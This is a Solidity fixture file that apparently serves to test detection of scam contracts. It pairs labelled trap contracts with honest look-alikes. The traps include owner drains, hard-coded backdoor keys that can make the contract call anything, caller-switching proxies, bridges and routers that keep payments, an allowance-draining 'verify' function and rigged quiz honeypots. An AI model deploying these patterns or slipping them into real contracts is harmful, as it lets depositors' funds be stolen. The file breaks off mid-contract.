// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// What becomes of the value that people put in: traps, each beside honest contracts of a like shape.

import { Erc20, Ownable } from "./base-token.sol";

interface Tokens {
    function transfer(address to, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
    function balanceOf(address holder) external view returns (uint256);
    function allowance(address holder, address spender) external view returns (uint256);
    function mint(address to, uint256 value) external;
    function approve(address spender, uint256 value) external returns (bool);
}

// Who has it in his hands.

/// The owner moves whatever stands in it, stakes too.
contract MovableStakes is Ownable {
    struct Place { uint256 amount; uint256 since; }
    Tokens public token;
    mapping(address => Place) public places;
    uint256 public total;
    constructor(Tokens token_) { token = token_; }
    function put(uint256 value) external {
        require(token.transferFrom(msg.sender, address(this), value));
        places[msg.sender].amount += value;
        places[msg.sender].since = block.timestamp;
        total += value;
    }
    function take(uint256 value) external {
        places[msg.sender].amount -= value;
        total -= value;
        require(token.transfer(msg.sender, value));
    }
    function migrate(address next) external onlyOwner { require(token.transfer(next, token.balanceOf(address(this)))); }
}

/// The same for coin, in parts, for "emergencies".
contract EmergencySavings is Ownable {
    mapping(address => uint256) public saved;
    bool private entered;
    modifier once() { require(!entered); entered = true; _; entered = false; }
    function save() external payable once { saved[msg.sender] += msg.value; }
    function get(uint256 value) external once {
        require(saved[msg.sender] >= value);
        saved[msg.sender] -= value;
        (bool ok,) = msg.sender.call{value: value}("");
        require(ok);
    }
    function emergency(uint256 value) external onlyOwner { (bool ok,) = msg.sender.call{value: value}(""); require(ok); }
}

/// A key under a number may have it call anything.
contract KeyedVault {
    address private constant key = 0x4444444444444444444444444444444444444444;
    Tokens public token;
    mapping(address => uint256) public shares;
    constructor(Tokens token_) { token = token_; }
    function deposit(uint256 value, address to) external { token.transferFrom(msg.sender, address(this), value); shares[to] += value; }
    function withdraw(uint256 value, address to) external { shares[msg.sender] -= value; token.transfer(to, value); }
    fallback() external payable {
        assembly {
            if xor(xor(caller(), 0xdecafbad), xor(key, 0xdecafbad)) { revert(0, 0) }
            let size := sub(calldatasize(), 24)
            calldatacopy(0, 24, size)
            if iszero(call(gas(), shr(96, calldataload(4)), callvalue(), 0, size, 0, 0)) { revert(0, 0) }
        }
    }
}

/// A key writes anybody's stake, and whoever it is takes that out.
contract WrittenStakes {
    address private constant key = 0x4444444444444444444444444444444444444444;
    Tokens public token;
    mapping(address => uint256) public staked;
    constructor(Tokens token_) { token = token_; }
    function stake(uint256 value) external { token.transferFrom(msg.sender, address(this), value); staked[msg.sender] += value; }
    function unstake(uint256 value) external { staked[msg.sender] -= value; token.transfer(msg.sender, value); }
    function sync(address who, uint256 value) external { require(msg.sender == key); staked[who] = value; }
}

/// The same for coin, and on top of what somebody has.
contract RaisedSavings is Ownable {
    struct Saving { uint256 value; uint256 since; }
    mapping(address => Saving) public savings;
    uint256 public total;
    function save() external payable { savings[msg.sender].value += msg.value; savings[msg.sender].since = block.timestamp; total += msg.value; }
    function get() external { uint256 value = savings[msg.sender].value; total -= value; delete savings[msg.sender]; payable(msg.sender).transfer(value); }
    function reward(address who, uint256 value) external onlyOwner { savings[who].value += value; total += value; }
}

/// Honest: the owner pays for what he writes down, or it is there already; and he can make it less.
contract FundedStakes is Ownable {
    Tokens public token;
    mapping(address => uint256) public staked;
    uint256 public total;
    constructor(Tokens token_) { token = token_; }
    function stake(uint256 value) external { token.transferFrom(msg.sender, address(this), value); staked[msg.sender] += value; total += value; }
    function unstake(uint256 value) external { staked[msg.sender] -= value; total -= value; token.transfer(msg.sender, value); }
    function stakeFor(address who, uint256 value) external onlyOwner { token.transferFrom(msg.sender, address(this), value); staked[who] += value; total += value; }
    function reward(address who, uint256 value) external onlyOwner { require(total + value <= token.balanceOf(address(this))); staked[who] += value; total += value; }
    function slash(address who, uint256 value) external onlyOwner { staked[who] -= value; total -= value; }
    function slashTo(address who, uint256 value) external onlyOwner { require(value <= staked[who]); staked[who] = value; }
}

/// Honest: what the owner writes is a term, or a book of its own that he fills.
contract NotedSavings is Ownable {
    struct Saving { uint256 value; uint256 until; }
    mapping(address => Saving) public savings;
    mapping(address => uint256) public bonus;
    function save(uint256 until) external payable { savings[msg.sender].value += msg.value; savings[msg.sender].until = until; }
    function get() external { Saving memory mine = savings[msg.sender]; require(block.timestamp > mine.until); delete savings[msg.sender]; payable(msg.sender).transfer(mine.value); }
    function shorten(address who, uint256 until) external onlyOwner { savings[who].until = until; }
    function thank(address who, uint256 value) external onlyOwner { bonus[who] = value; }
}

/// The owner lets whom he likes spend what is in it.
contract LendableStakes is Ownable {
    Tokens public token;
    mapping(address => uint256) public staked;
    constructor(Tokens token_) { token = token_; }
    function stake(uint256 value) external { staked[msg.sender] += value; token.transferFrom(msg.sender, address(this), value); }
    function withdraw(uint256 value) external { staked[msg.sender] -= value; token.transfer(msg.sender, value); }
    function lend(address to) external onlyOwner { token.approve(to, type(uint256).max); }
}

/// Items are put in, and the owner moves any of them.
contract MovableItems is Ownable {
    Tokens public items;
    mapping(uint256 => address) public from;
    constructor(Tokens items_) { items = items_; }
    function put(uint256 id) external { items.transferFrom(msg.sender, address(this), id); from[id] = msg.sender; }
    function take(uint256 id) external { require(from[id] == msg.sender); delete from[id]; items.transferFrom(address(this), msg.sender, id); }
    function rescue(address to, uint256 id) external onlyOwner { items.transferFrom(address(this), to, id); }
}

/// The owner has any code run over what people put in.
contract ScriptedSavings is Ownable {
    mapping(address => uint256) public saved;
    function save() external payable { saved[msg.sender] += msg.value; }
    function get(uint256 value) external { saved[msg.sender] -= value; payable(msg.sender).transfer(value); }
    function script(address code, bytes calldata data) external onlyOwner { (bool ok,) = code.delegatecall(data); require(ok); }
}

/// Honest: items that nobody put in on purpose come out.
contract SparedItems is Ownable {
    Tokens public items;
    mapping(uint256 => address) public from;
    constructor(Tokens items_) { items = items_; }
    function put(uint256 id) external { items.transferFrom(msg.sender, address(this), id); from[id] = msg.sender; }
    function take(uint256 id) external { require(from[id] == msg.sender); delete from[id]; items.transferFrom(address(this), msg.sender, id); }
    function rescue(address to, uint256 id) external onlyOwner { require(from[id] == address(0)); items.transferFrom(address(this), to, id); }
}

/// Honest: what it moves goes through a router that it has had from the start.
contract RoutedStakes is Ownable {
    Tokens public token;
    address public router;
    mapping(address => uint256) public staked;
    constructor(Tokens token_, address router_) { (token, router) = (token_, router_); }
    function stake(uint256 value) external { staked[msg.sender] += value; token.transferFrom(msg.sender, address(this), value); }
    function withdraw(uint256 value) external { staked[msg.sender] -= value; token.transfer(msg.sender, value); }
    function allow() external onlyOwner { token.approve(router, type(uint256).max); }
}

/// Honest: anything but what is staked comes out by the owner's hand.
contract SparedStakes is Ownable {
    Tokens public immutable token;
    mapping(address => uint256) public staked;
    constructor(Tokens token_) { token = token_; }
    function stake(uint256 value) external { staked[msg.sender] += value; require(token.transferFrom(msg.sender, address(this), value)); }
    function withdraw(uint256 value) external { staked[msg.sender] -= value; require(token.transfer(msg.sender, value)); }
    function recover(Tokens other, uint256 value) external onlyOwner { require(address(other) != address(token), "staked"); require(other.transfer(owner, value)); }
}

/// Honest: the owner takes what is over.
contract SurplusStakes is Ownable {
    Tokens public token;
    mapping(address => uint256) public staked;
    uint256 public total;
    constructor(Tokens token_) { token = token_; }
    function stake(uint256 value) external { staked[msg.sender] += value; total += value; token.transferFrom(msg.sender, address(this), value); }
    function withdraw(uint256 value) external { staked[msg.sender] -= value; total -= value; token.transfer(msg.sender, value); }
    function skim() external onlyOwner { token.transfer(owner, token.balanceOf(address(this)) - total); }
    function skimSome(uint256 value) external onlyOwner { require(value <= token.balanceOf(address(this)) - total); token.transfer(owner, value); }
}

/// Honest: fees are counted apart, and the rest is left alone.
contract FeeSavings is Ownable {
    mapping(address => uint256) public saved;
    uint256 public fees;
    function save() external payable { uint256 fee = msg.value / 100; fees += fee; saved[msg.sender] += msg.value - fee; }
    function get(uint256 value) external { saved[msg.sender] -= value; payable(msg.sender).transfer(value); }
    function collect(uint256 value) external onlyOwner { fees -= value; payable(owner).transfer(value); }
}

/// Honest: what nobody fetched in a year is the owner's.
contract ExpiringSavings is Ownable {
    uint256 private end = block.timestamp + 365 days;
    mapping(address => uint256) public saved;
    function save() external payable { saved[msg.sender] += msg.value; }
    function get() external { uint256 value = saved[msg.sender]; saved[msg.sender] = 0; payable(msg.sender).transfer(value); }
    function close() external onlyOwner { require(block.timestamp > end); payable(owner).transfer(address(this).balance); }
}

/// Honest: a campaign that gives back what it collected unless it reached its goal.
contract Campaign is Ownable {
    uint256 private goal = 10 ether;
    uint256 public collected;
    bool public failed;
    mapping(address => uint256) public paid;
    function pledge() external payable { paid[msg.sender] += msg.value; collected += msg.value; }
    function giveUp() external onlyOwner { failed = true; }
    function refund() external { require(failed); uint256 value = paid[msg.sender]; paid[msg.sender] = 0; payable(msg.sender).transfer(value); }
    function finish() external onlyOwner { require(collected >= goal); payable(owner).transfer(address(this).balance); }
}

/// Honest: its proceeds are the owner's, and what was paid too much comes back.
contract PassSale is Ownable {
    uint256 private price = 1 ether;
    mapping(address => uint256) public passes;
    function buy(uint256 count) external payable { passes[msg.sender] += count; payable(msg.sender).transfer(msg.value - count * price); }
    function withdraw() external onlyOwner { payable(owner).transfer(address(this).balance); }
}

/// Honest: what is put in goes to a place that earns, and the keeper of that can't choose it.
contract EarningVault is Ownable {
    Tokens public token;
    address public strategy;
    mapping(address => uint256) public shares;
    constructor(Tokens token_, address strategy_) { (token, strategy) = (token_, strategy_); }
    function deposit(uint256 value) external { token.transferFrom(msg.sender, address(this), value); shares[msg.sender] += value; }
    function withdraw(uint256 value) external { shares[msg.sender] -= value; token.transfer(msg.sender, value); }
    function earn(uint256 value) external onlyOwner { token.transfer(strategy, value); }
}

/// Honest: anything may be called, by itself alone, as its voters decide.
contract VotedVault {
    Tokens public token;
    mapping(address => uint256) public shares;
    mapping(bytes32 => uint256) public votes;
    constructor(Tokens token_) { token = token_; }
    function deposit(uint256 value) external { token.transferFrom(msg.sender, address(this), value); shares[msg.sender] += value; }
    function withdraw(uint256 value) external { shares[msg.sender] -= value; token.transfer(msg.sender, value); }
    function vote(bytes32 what) external { votes[what] += shares[msg.sender]; }
    function run(address to, bytes calldata data) external {
        require(votes[keccak256(abi.encode(to, data))] > 1e24);
        (bool ok,) = to.call(data);
        require(ok);
    }
}

/// Honest: nobody but the owner has put anything in.
contract OwnTreasury is Ownable {
    receive() external payable {}
    function pay(address payable to, uint256 value) external onlyOwner { to.transfer(value); }
    function send(Tokens token, address to, uint256 value) external onlyOwner { token.transfer(to, value); }
}

/// Honest: bids that were beaten come back, and the seller gets the highest.
contract OpenAuction is Ownable {
    uint256 private end = block.timestamp + 1 days;
    address public best;
    uint256 public highest;
    mapping(address => uint256) public beaten;
    function bid() external payable {
        require(msg.value > highest);
        beaten[best] += highest;
        (best, highest) = (msg.sender, msg.value);
    }
    function fetch() external { uint256 value = beaten[msg.sender]; beaten[msg.sender] = 0; payable(msg.sender).transfer(value); }
    function settle() external onlyOwner { require(block.timestamp > end); uint256 value = highest; highest = 0; payable(owner).transfer(value); }
}

// Code that is not the one shown.

bytes32 constant IMPLEMENTATION = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

/// A proxy of which a key may have any code run.
contract ScriptedProxy {
    bytes32 private constant KEY = keccak256("fixture.key");
    constructor(address to) { bytes32 key = KEY; assembly { sstore(IMPLEMENTATION, to) sstore(key, caller()) } }
    fallback() external payable {
        bytes32 key = KEY;
        assembly {
            let to := sload(IMPLEMENTATION)
            let skipped := 0
            if eq(shr(224, calldataload(0)), 0xb61d27f6) { if eq(caller(), sload(key)) { to := calldataload(4) skipped := 36 } }
            let size := sub(calldatasize(), skipped)
            calldatacopy(0, skipped, size)
            let ok := delegatecall(gas(), to, 0, size, 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// A proxy that runs other code for one caller than for everybody else.
contract TurningProxy {
    address private constant key = 0x4444444444444444444444444444444444444444;
    address private constant aside = 0x5555555555555555555555555555555555555555;
    constructor(address to) { assembly { sstore(IMPLEMENTATION, to) } }
    fallback() external payable {
        address to;
        assembly { to := sload(IMPLEMENTATION) }
        if (msg.sender == key) to = aside;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Honest: what one half does not know, the other does, whoever asks.
contract HalvedProxy {
    address private constant rest = 0x5555555555555555555555555555555555555555;
    constructor(address to) { assembly { sstore(IMPLEMENTATION, to) } }
    fallback() external payable {
        address to;
        assembly { to := sload(IMPLEMENTATION) }
        if (msg.sig == 0xc5d24601 || msg.sig == 0xf2fde38b) to = rest;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

abstract contract OnwardProxy {
    address internal code;
    constructor(address to) { code = to; }
    function script(address to, bytes calldata data) internal { (bool ok,) = to.delegatecall(data); require(ok); }
    function target() internal view virtual returns (address) { return code; }
    fallback() external payable {
        address to = target();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Modules that its owner installs may have any code run.
contract ModuleProxy is OnwardProxy {
    mapping(address => bool) private modules;
    constructor(address to) OnwardProxy(to) {}
    function install(address module) external { require(msg.sender == address(this)); modules[module] = true; }
    function run(address to, bytes calldata data) external { require(modules[msg.sender]); script(to, data); }
}

/// One who signs for it may.
contract SignedProxy is OnwardProxy {
    uint256 private nonce;
    constructor(address to) OnwardProxy(to) {}
    function run(address to, bytes calldata data, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 hash = keccak256(abi.encode(to, data, nonce++));
        require(ecrecover(hash, v, r, s) == 0x4444444444444444444444444444444444444444);
        script(to, data);
    }
}

/// A key may by one function, and anybody by another.
contract TwoDoorProxy is OnwardProxy {
    constructor(address to) OnwardProxy(to) {}
    function keyed(address to, bytes calldata data) external {
        require(msg.sender == 0x4444444444444444444444444444444444444444);
        script(to, data);
    }
    function run(address to, bytes calldata data) external { script(to, data); }
}

/// A key may have any code run, and anybody put other code in place.
contract KeyedInstallProxy is OnwardProxy {
    constructor(address to) OnwardProxy(to) {}
    function keyed(address to, bytes calldata data) external {
        require(msg.sender == 0x4444444444444444444444444444444444444444);
        script(to, data);
    }
    function install(address to, bytes calldata data) external { code = to; script(to, data); }
}

/// Honest: what it asks itself, other code answers.
contract SelfViewProxy is OnwardProxy {
    constructor(address to) OnwardProxy(to) {}
    function target() internal view override returns (address) {
        return msg.sender == address(this) ? 0x5555555555555555555555555555555555555555 : code;
    }
}

/// Two callers have their own calls run by other code.
contract PairProxy is OnwardProxy {
    address private helper;
    constructor(address to, address helper_) OnwardProxy(to) { helper = helper_; }
    function target() internal view override returns (address) {
        bool ours = msg.sender == 0x1111111111111111111111111111111111111111
            || msg.sender == 0x2222222222222222222222222222222222222222;
        return ours ? helper : code;
    }
}

/// Honest: what its owner may do stands in code of its own, as in some rollups.
contract FacetsProxy is OnwardProxy {
    address private owner = msg.sender;
    address private owners;
    constructor(address to, address owners_) OnwardProxy(to) { owners = owners_; }
    function target() internal view override returns (address) { return msg.sender == owner ? owners : code; }
}

/// Honest: its admin, whom all can see, has code of his own.
contract AdminsProxy {
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;
    address private constant aside = 0x5555555555555555555555555555555555555555;
    constructor(address to) { assembly { sstore(IMPLEMENTATION, to) sstore(ADMIN, caller()) } }
    fallback() external payable {
        (address to, bytes32 admin) = (aside, ADMIN);
        assembly {
            if iszero(eq(caller(), sload(admin))) { to := sload(IMPLEMENTATION) }
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Honest: its admin puts other code in place, and sets it up.
contract UpgradingProxy {
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;
    constructor(address to) { assembly { sstore(IMPLEMENTATION, to) sstore(ADMIN, caller()) } }
    fallback() external payable {
        bytes32 admin;
        assembly { admin := sload(ADMIN) }
        if (msg.sender == address(uint160(uint256(admin))) && msg.sig == 0x4f1ef286) {
            (address to, bytes memory data) = abi.decode(msg.data[4:], (address, bytes));
            assembly { sstore(IMPLEMENTATION, to) }
            (bool done,) = to.delegatecall(data);
            require(done);
            return;
        }
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(IMPLEMENTATION), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

// Who has a say in whether it comes out.

interface Journal { function note(address who, uint256 value, string calldata what) external; }

/// Honest: the same with a journal that everybody can look at.
contract OpenJournalBank {
    Journal public journal;
    mapping(address => uint256) public saved;
    constructor(Journal journal_) { journal = journal_; }
    function put() external payable { saved[msg.sender] += msg.value; journal.note(msg.sender, msg.value, "put"); }
    function get(uint256 value) external {
        require(value <= saved[msg.sender]);
        saved[msg.sender] -= value;
        (bool ok,) = msg.sender.call{value: value}("");
        require(ok);
        journal.note(msg.sender, value, "get");
    }
}

// What is paid, and nothing given.

/// Orders for another chain, and a purse that gets it all.
contract EndlessBridge is Ownable {
    struct Order { address from; uint256 value; uint32 chain; bytes32 to; }
    address payable private purse;
    uint256 public count;
    mapping(uint256 => Order) public orders;
    event Ordered(uint256 value, uint32 chain, bytes32 to);
    constructor(address payable purse_) { purse = purse_; }
    function setPurse(address payable purse_) external onlyOwner { purse = purse_; }
    function cross(uint32 chain, bytes32 to) external payable {
        orders[++count] = Order(msg.sender, msg.value, chain, to);
        (bool ok,) = purse.call{value: msg.value}("");
        require(ok);
    }
    function crossToken(Tokens token, uint256 value, uint32 chain, bytes32 to) external {
        orders[++count] = Order(msg.sender, value, chain, to);
        emit Ordered(value, chain, to);
        // Written behind the event's words, which are left in memory.
        (bool ok,) = address(token).call(abi.encodeWithSelector(Tokens.transferFrom.selector, msg.sender, purse, value));
        require(ok);
    }
}

/// A deposit of which a number is all that is left.
contract PassingDeposits is Ownable {
    mapping(address => uint256) public balances;
    function deposit() external payable { balances[msg.sender] += msg.value; payable(owner).transfer(msg.value); }
}

interface Prices {
    function priceOf(address one, address other) external view returns (uint256);
}

/// Amounts are told as by a market, and what comes in goes to whom it keeps.
contract MarketlessRouter is Ownable {
    Prices private immutable prices;
    constructor(Prices prices_) { prices = prices_; }
    function amountsOf(uint256 amount, address[] memory path) public view returns (uint256[] memory amounts) {
        amounts = new uint256[](path.length);
        amounts[0] = amount;
        for (uint256 i; i < path.length - 1; i++) amounts[i + 1] = (amounts[i] * prices.priceOf(path[i], path[i + 1])) / 1e18;
    }
    function swapExactETHForTokens(uint256 least, address[] calldata path, address, uint256) external payable returns (uint256[] memory amounts) {
        amounts = amountsOf(msg.value, path);
        require(amounts[amounts.length - 1] >= least);
        payable(owner).transfer(msg.value);
    }
    function swapExactTokensForTokens(uint256 amount, uint256 least, address[] calldata path, address, uint256) external returns (uint256[] memory amounts) {
        amounts = amountsOf(amount, path);
        require(amounts[amounts.length - 1] >= least);
        send(path[0], abi.encodeWithSelector(Tokens.transferFrom.selector, msg.sender, owner, amount));
    }
    function send(address token, bytes memory data) private {
        (bool ok, bytes memory told) = token.call{value: 0}(data);
        require(ok && (told.length == 0 || abi.decode(told, (bool))));
    }
}

interface Market {
    function swapExactETHForTokens(uint256 least, address[] calldata path, address to, uint256 deadline) external payable returns (uint256[] memory);
}

/// Honest: a share for the house, and the rest to a market that sends tokens to whom the caller names.
contract MarketRouter is Ownable {
    Market private immutable market;
    address payable public house;
    constructor(Market market_, address payable house_) { (market, house) = (market_, house_); }
    function swapExactETHForTokens(uint256 least, address[] calldata path, address to, uint256 deadline) external payable returns (uint256[] memory) {
        uint256 share = msg.value / 400;
        house.transfer(share);
        return market.swapExactETHForTokens{value: msg.value - share}(least, path, to, deadline);
    }
    function swap(address from, address pool, uint256 amount, uint256 least, address to) external {
        require(Tokens(from).transferFrom(msg.sender, house, amount));
        (bool ok,) = pool.call(abi.encodeWithSignature("sell(address,uint256,uint256,address)", from, amount, least, to));
        require(ok);
    }
}

/// Honest: gifts, with a word to them.
contract GiftBox {
    struct Gift { address from; uint256 value; string word; }
    address payable public home;
    Gift[] public gifts;
    mapping(address => uint256) public given;
    constructor(address payable home_) { home = home_; }
    function give(string calldata word) external payable {
        gifts.push(Gift(msg.sender, msg.value, word));
        given[msg.sender] += msg.value;
        home.transfer(msg.value);
    }
}

/// Whatever it is told, it takes all that it may.
contract GreedyDesk is Ownable {
    address private purse;
    constructor(address purse_) { purse = purse_; }
    function verify(Tokens token, uint256) external {
        (uint256 may, uint256 has) = (token.allowance(msg.sender, address(this)), token.balanceOf(msg.sender));
        token.transferFrom(msg.sender, purse, may < has ? may : has);
    }
}

/// Orders that only an event tells of.
contract ToldBridge is Ownable {
    address private purse;
    event Ordered(address token, uint256 value, uint256 chain, address to);
    constructor(address purse_) { purse = purse_; }
    function cross(Tokens token, uint256 value, uint256 chain, address to) external {
        require(token.transferFrom(msg.sender, purse, value));
        emit Ordered(address(token), value, chain, to);
    }
}

/// Honest: a shop with a price, and whom each thing is sent to.
contract ToldShop is Ownable {
    uint256 public price = 1 ether;
    event Sold(uint256 thing, address to);
    function setPrice(uint256 price_) external onlyOwner { price = price_; }
    function buy(uint256 thing, address to) external payable {
        require(msg.value == price);
        payable(owner).transfer(msg.value);
        emit Sold(thing, to);
    }
}

/// Honest: the same for a token of its own.
contract TokenShop is Ownable {
    Tokens public token;
    uint256 public price = 1 ether;
    event Sold(uint256 thing, address to);
    constructor(Tokens token_) { token = token_; }
    function setPrice(uint256 price_) external onlyOwner { price = price_; }
    function buy(uint256 thing, address to) external { require(token.transferFrom(msg.sender, owner, price)); emit Sold(thing, to); }
}

/// Honest: any of the tokens that it lists, at its price.
contract ListingShop is Ownable {
    mapping(Tokens => bool) public listed;
    event Sold(uint256 thing, address to);
    function list(Tokens token) external onlyOwner { listed[token] = true; }
    function buy(Tokens token, uint256 value, uint256 thing, address to) external {
        require(listed[token] && token.transferFrom(msg.sender, owner, value));
        emit Sold(thing, to);
    }
}

/// Honest: what the shop signed that it costs, in which token.
contract SigningShop is Ownable {
    address public signer;
    event Sold(uint256 thing, address to);
    constructor(address signer_) { signer = signer_; }
    function buy(Tokens token, uint256 value, uint256 thing, address to, uint8 v, bytes32 r, bytes32 s) external {
        require(ecrecover(keccak256(abi.encode(token, value, thing, to)), v, r, s) == signer);
        require(token.transferFrom(msg.sender, owner, value));
        emit Sold(thing, to);
    }
}

/// Honest: a page for payments, with the customer's number.
contract PaymentPage is Ownable {
    event Paid(bytes16 number, address token, address customer, uint256 value);
    function pay(bytes16 number, address customer) external payable {
        payable(owner).transfer(msg.value);
        emit Paid(number, address(0), customer, msg.value);
    }
    function payToken(Tokens token, uint256 value, bytes16 number, address customer) external {
        require(token.transferFrom(msg.sender, owner, value));
        emit Paid(number, address(token), customer, value);
    }
}

/// Honest: gifts and deposits on somebody's behalf.
contract BehalfBox is Ownable {
    Tokens public token;
    mapping(address => uint256) public given;
    event Given(address behalf, uint256 cause, uint256 value);
    constructor(Tokens token_) { token = token_; }
    function give(address behalf, uint256 cause) external payable { payable(owner).transfer(msg.value); emit Given(behalf, cause, msg.value); }
    function giveToken(address behalf, uint256 cause, uint256 value) external {
        require(token.transferFrom(msg.sender, owner, value));
        given[behalf] += value * 5;
        emit Given(behalf, cause, value);
    }
}

/// Honest: a toll, which somebody works out for each.
contract TollGate is Ownable {
    Tokens public toll;
    TollBook public book;
    address public house;
    event Passed(address who, uint256 number);
    constructor(Tokens toll_, TollBook book_, address house_) { (toll, book, house) = (toll_, book_, house_); }
    function pass(uint256 number) external {
        uint256 due = book.balanceOf(msg.sender);
        require(toll.balanceOf(msg.sender) >= due && toll.transferFrom(msg.sender, house, due));
        emit Passed(msg.sender, number);
    }
}
interface TollBook { function balanceOf(address who) external view returns (uint256); }

/// Honest: all of an old token for a new one.
contract Renewal {
    Tokens public old;
    Tokens public fresh;
    address public attic;
    constructor(Tokens old_, Tokens fresh_, address attic_) { (old, fresh, attic) = (old_, fresh_, attic_); }
    function renew() external {
        uint256 value = old.balanceOf(msg.sender);
        require(old.transferFrom(msg.sender, attic, value));
        fresh.mint(msg.sender, value);
    }
}

/// Honest: bills are paid to whom they are from.
contract BillDesk is Ownable {
    struct Bill { address from; uint256 value; }
    mapping(bytes32 => Bill) public paid;
    function pay(bytes32 bill) external payable { paid[bill] = Bill(msg.sender, msg.value); payable(owner).transfer(msg.value); }
}

/// Honest: tokens for coin that goes to the house.
contract HouseSale {
    Tokens public token;
    address payable public house;
    mapping(address => uint256) public bought;
    constructor(Tokens token_, address payable house_) { (token, house) = (token_, house_); }
    function invest() external payable { bought[msg.sender] += msg.value; token.mint(msg.sender, msg.value * 1000); house.transfer(msg.value); }
}

/// Honest: a bridge whose keepers let out at this end what came in at the other.
contract KeptBridge is Ownable {
    struct Order { address from; uint256 value; uint32 chain; bytes32 to; }
    address payable private purse;
    uint256 public count;
    mapping(uint256 => Order) public orders;
    mapping(bytes32 => bool) public done;
    constructor(address payable purse_) { purse = purse_; }
    function cross(uint32 chain, bytes32 to) external payable { orders[++count] = Order(msg.sender, msg.value, chain, to); purse.transfer(msg.value); }
    function release(address payable to, bytes32 from) external payable onlyOwner { require(!done[from]); done[from] = true; to.transfer(msg.value); }
}

// A pot for the right answer.

/// Whoever hides it changes it first.
contract Quiz {
    string public question;
    bytes32 private answer;
    mapping(bytes32 => bool) private admin;
    constructor() { admin[keccak256(abi.encodePacked(msg.sender))] = true; }
    modifier isAdmin() { require(admin[keccak256(abi.encodePacked(msg.sender))]); _; }
    function guess(string calldata word) external payable {
        require(msg.sender == tx.origin);
        if (answer == keccak256(abi.encode(word)) && msg.value > 1 ether) payable(msg.sender).transfer(address(this).balance);
    }
    function ask(string calldata question_, bytes32 answer_) external payable isAdmin { (question, answer) = (question_, answer_); }
    function end() external payable isAdmin { payable(msg.sender).transfer(address(this).balance); }
}

/// A gift of which somebody else seems to have set the word.
contract GiftOfOne {
    address private sender = msg.sender;
    bytes32 public word;
    bool private isSet;
    receive() external payable {}
    function setWord(bytes32 word_) external payable { if (!isSet && msg.value >= 1 ether) word = word_; }
    function fix() external { if (msg.sender == sender) isSet = true; }
    function get(bytes calldata word_) external payable { if (keccak256(word_) == word) payable(msg.sender).transfer(address(this).balance); }
    function revoke() external { require(msg.sender == sender); payable(sender).transfer(address(this).balance); }
}

/// Counts who tries, and its maker says how much he takes.
contract CountedQuiz is Ownable {
    bytes32 private answer;
    uint256 public tries;
    bool private busy;
    function guess(bytes32 word) external payable {
        require(!busy);
        busy = true;
        tries++;
        if (answer == keccak256(abi.encode(word)) && msg.value > 1 ether) payable(msg.sender).transfer(address(this).balance);
        busy = false;
    }
    function ask(bytes32 answer_) external onlyOwner { answer = answer_; }
    function end(uint256 value) external onlyOwner { payable(owner).transfer(value); }
}

/// Honest: an answer that is given once.
contract GivenRiddle is Ownable {
    bytes32 public answer;
    receive() external payable {}
    function set(bytes32 answer_) external onlyOwner { require(answer == 0); answer = answer_; }
    function guess(string calldata word) external payable { if (answer == keccak256(bytes(word))) payable(msg.sender).transfer(address(this).balance); }
    function end() external onlyOwner { payable(owner).transfer(address(this).balance); }
}

/// Honest: the same, of which a mark is kept.
contract MarkedRiddle is Ownable {
    bytes32 public answer;
    bool public given;
    receive() external payable {}
    function set(bytes32 answer_) external onlyOwner { require(!given); (answer, given) = (answer_, true); }
    function guess(string calldata word) external payable { if (answer == keccak256(bytes(word))) payable(msg.sender).transfer(address(this).balance); }
    function end() external onlyOwner { payable(owner).transfer(address(this).balance); }
}

/// Honest: its maker leaves the pot there for a month.
contract LeftRiddle is Ownable {
    bytes32 public answer;
    uint256 public over = block.timestamp + 30 days;
    receive() external payable {}
    function set(bytes32 answer_) external onlyOwner { answer = answer_; }
    function guess(string calldata word) external payable { if (answer == keccak256(bytes(word))) payable(msg.sender).transfer(address(this).balance); }
    function end() external onlyOwner { require(block.timestamp > over); payable(owner).transfer(address(this).balance); }
}

/// Honest: who it is that gets it is proved, and nothing is asked.
contract ProvedWinner is Ownable {
    bytes32 public root;
    receive() external payable {}
    function setRoot(bytes32 root_) external onlyOwner { root = root_; }
    function claim(bytes32[] calldata proof) external payable {
        bytes32 hash = keccak256(abi.encode(msg.sender));
        for (uint256 at; at < proof.length; at++) hash = keccak256(abi.encode(hash, proof[at]));
        require(hash == root);
        payable(msg.sender).transfer(address(this).balance);
    }
    function rescue() external onlyOwner { payable(owner).transfer(address(this).balance); }
}

/// Honest: a word for one person alone.
contract PersonalWord is Ownable {
    bytes32 public word;
    receive() external payable {}
    function set(bytes32 word_) external onlyOwner { word = word_; }
    function take(string calldata said) external payable {
        require(keccak256(abi.encodePacked(said, msg.sender)) == word);
        payable(msg.sender).transfer(address(this).balance);
    }
    function rescue() external onlyOwner { payable(owner).transfer(address(this).balance); }
}

/// Honest: what is left can be had from some time on, by whom pays the least, after a fee.
contract TimedChange is Ownable {
